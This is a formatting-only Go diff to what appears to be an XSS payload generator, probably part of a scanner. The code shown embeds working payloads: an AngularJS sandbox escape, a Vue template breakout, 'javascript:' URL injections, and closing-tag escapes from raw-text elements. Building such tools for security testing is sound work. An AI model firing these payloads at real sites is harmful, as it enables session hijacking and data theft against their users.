@@ -61,7 +61,9 @@ func breakOuts(kind, before, after string) []string {
 			return []string{"javascript:F()", "JavaScript://http://%0aF()"}
 		}
 	case "template": // of AngularJS without its sandbox, of 1.3 to 1.5 with it, and of Vue
-		return []string{"{{constructor.constructor('F()')()}}", "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=F()');}}", "{{$el.ownerDocument.defaultView.F()}}"}
+		return []string{"{{constructor.constructor('F()')()}}",
+			"{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=F()');}}",
+			"{{$el.ownerDocument.defaultView.F()}}"}
 	}
 	return nil
 }
@@ -103,7 +105,8 @@ func rest(after string) string {
 			after = after[1:]
 			continue
 		}
-		for _, gone := range []string{"\\" + string(c), url.QueryEscape(string(c)), map[rune]string{'\'': "&#39;", '"': "&quot;", '<': "&lt;", '>': "&gt;"}[c]} {
+		for _, gone := range []string{"\\" + string(c), url.QueryEscape(string(c)),
+			map[rune]string{'\'': "&#39;", '"': "&quot;", '<': "&lt;", '>': "&gt;"}[c]} {
 			after = strings.TrimPrefix(after, gone)
 		}
 	}
@@ -125,7 +128,8 @@ func htmlPayloads(before, after string) []string {
 	if open > strings.LastIndexByte(before, '>') { // inside of a tag
 		quote := openQuote(before[open:])
 		if m := handler.FindStringSubmatch(before[open:]); m != nil && strings.HasPrefix(m[1], quote) {
-			if inside := scriptPayloads(gohtml.UnescapeString(m[1][len(quote):]), gohtml.UnescapeString(after)); inside != nil {
+			if inside := scriptPayloads(gohtml.UnescapeString(m[1][len(quote):]),
+				gohtml.UnescapeString(after)); inside != nil {
 				return inside
 			}
 		}
@@ -146,7 +150,8 @@ func htmlPayloads(before, after string) []string {
 		return nil
 	}
 	lower := strings.ToLower(before)
-	for _, raw := range []string{"textarea", "title", "script", "style", "noscript", "xmp", "iframe", "template", "select"} {
+	for _, raw := range []string{"textarea", "title", "script", "style", "noscript", "xmp", "iframe", "template",
+		"select"} {
 		if strings.LastIndex(lower, "<"+raw) > strings.LastIndex(lower, "</"+raw) {
 			return []string{"</" + raw + ">" + image}
 		}
